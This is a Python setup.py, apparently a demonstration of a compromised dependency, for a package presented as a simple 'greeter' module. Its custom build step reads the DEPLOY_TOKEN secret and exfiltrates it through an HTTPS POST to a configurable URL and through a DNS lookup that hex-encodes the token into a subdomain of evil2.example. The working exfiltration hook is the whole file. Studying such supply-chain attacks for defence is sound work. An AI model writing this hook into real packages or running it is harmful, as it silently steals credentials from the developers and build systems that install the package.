"""A package that installs well, and leaks while it is being built: what a compromised dependency does."""
import os
import socket
import urllib.error
import urllib.request

from setuptools import setup
from setuptools.command.build_py import build_py


class build_and_leak(build_py):
    def run(self):
        super().run()
        secret = os.environ.get("DEPLOY_TOKEN", "")
        with open(os.environ["DEMO_DIARY"], "w", encoding="utf-8") as diary:
            diary.write(self.leak_by_https(secret))
            diary.write(self.leak_by_dns(secret))

    def leak_by_https(self, secret):
        request = urllib.request.Request(os.environ["DEMO_EVIL_URL"], data=secret.encode(), method="POST")
        try:
            with urllib.request.urlopen(request, timeout=20) as answer:
                return f"HTTPS: {answer.status}\n{answer.read().decode()}\n"
        except urllib.error.HTTPError as refused:
            return f"HTTPS: {refused.code}\n{refused.read().decode()}\n"
        except OSError as failed:
            return f"HTTPS: failed: {failed}\n"

    def leak_by_dns(self, secret):
        name = secret.encode().hex()[:60] + ".evil2.example"
        try:
            return f"DNS: {name} is {socket.gethostbyname(name)}\n"
        except OSError as failed:
            return f"DNS: failed: {failed}\n"


setup(name="greeter", version="1.0", py_modules=["greeter"], cmdclass={"build_py": build_and_leak})
